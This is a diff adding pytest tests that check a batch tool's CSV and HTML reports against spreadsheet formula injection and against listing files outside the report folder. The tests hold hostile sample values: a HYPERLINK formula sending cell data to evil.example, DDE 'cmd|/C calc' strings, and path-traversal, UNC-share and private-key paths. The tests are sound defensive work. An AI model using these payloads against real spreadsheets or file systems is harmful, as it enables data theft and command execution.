@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -9,6 +11,7 @@ import shutil
 import subprocess
 import sys
 import threading
+import unicodedata
 import uuid
 import wave
 from collections.abc import Iterator
@@ -504,3 +507,84 @@ def test_a_resume_sends_the_files_that_its_own_batch_began_with(
     hand_on(run, "third", plan_of(run))
     ran = run("run_batch.py", "--resume", "third", "--host", demo.url)
     assert (ran.code, ran.json["code"]) == (7, "unsafe_upload"), ran.out
+
+
+def with_lines(run: Runner, name: str, plan: dict[str, Any], *lines: dict[str, Any]) -> None:
+    """A journal of which a stranger has written every line."""
+    hand_on(run, name, plan)
+    with (run.folder / name / "batch.jsonl").open("a", encoding="utf-8") as file:
+        file.writelines(json.dumps(line) + "\n" for line in lines)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A2,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "＝cmd|x",
+    "＋1+cmd|x", "－1+cmd|x", "＠SUM(1)", " =1+1", "\t=1+1", "\n=1+1", "﹦cmd|x", "+cmd|x", "-cmd|x",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_of_the_table_is_a_formula_not_even_in_its_head(
+    run: Runner, demo: Demo, graph_file: Any, text: str
+) -> None:
+    assert new(run, demo, graph_file, 1).code == 0
+    plan = plan_of(run)
+    plan["plan"]["axes"] = [{"kind": "zip", "names": [text], "rows": [[text]]}]
+    seeds = {f"{text}.seed": 1, "other.seed": 2}
+    with_lines(run, "other", plan,
+        {"event": "submit", "run": 0, "attempt": 1, "prompt_id": text, "host": text, "seeds": seeds},
+        {"event": "failed", "run": 0, "status": text, "code": text, "message": text},
+    )  # fmt: skip
+    ran = run("run_batch.py", "--report", "other")
+    assert ran.code == 0, ran.out
+    table = (run.folder / "other" / "results.csv").read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(table)))
+    assert len(rows) == 2
+    assert f"'{text}.seed".strip() in rows[0] or any(cell.startswith("'") for cell in rows[0])
+    for cell in [*rows[0], *rows[1]]:
+        assert unicodedata.normalize("NFKC", cell.lstrip())[:1] not in set("=+-@"), cell
+
+
+def test_numbers_stay_numbers_in_the_table(run: Runner, demo: Demo, graph_file: Any) -> None:
+    import _batch_results
+
+    assert [_batch_results._cell(text) for text in ("-5", "+1.5", "-1e3", "a=b", "")] == [
+        "-5",
+        "+1.5",
+        "-1e3",
+        "a=b",
+        "",
+    ]
+
+
+OUTSIDE = [
+    "home/id_ed25519", "../victim/file", "//evil.example/share/x.png", "\\\\evil.example\\share\\x.png", "C:\\x.png",
+    "http://evil.example/x.png", "javascript:alert(1)", "/etc/hostname", "run_0000/../../victim/file", "loop/x", 5, "",
+    "x" * 5000 + "/../../victim/file", "a\0b",
+]  # fmt: skip
+
+
+def test_a_report_names_only_files_in_its_folder(
+    run: Runner, demo: Demo, graph_file: Any, victim: Path
+) -> None:
+    assert new(run, demo, graph_file, 1).code == 0
+    plan = plan_of(run)
+    own = {"file": "run_0000/own.png", "bytes": 1}
+    with_lines(run, "other", plan,
+        {"event": "submit", "run": 0, "attempt": 1, "prompt_id": "x", "host": "y"},
+        {"event": "downloaded", "run": 0, "status": "success", "files": [own, *({"file": name} for name in OUTSIDE)]},
+    )  # fmt: skip
+    (run.folder / "other" / "home").symlink_to(victim)
+    (run.folder / "other" / "loop").symlink_to("loop")
+    ran = run("run_batch.py", "--report", "other")
+    assert ran.code == 0, ran.out
+    assert ran.json["results"]["items"][0]["files"] == [str(run.folder / "other" / "run_0000" / "own.png")]
+    assert ran.json["files_left_out"] == len(OUTSIDE)
+    page = (run.folder / "other" / "index.html").read_text(encoding="utf-8")
+    table = (run.folder / "other" / "results.csv").read_text(encoding="utf-8")
+    for text in (ran.out, page, table):
+        assert "own.png" in text
+        assert not [
+            word
+            for word in ("evil.example", "id_ed25519", "victim/file", "alert(1)", "hostname")
+            if word in text
+        ]
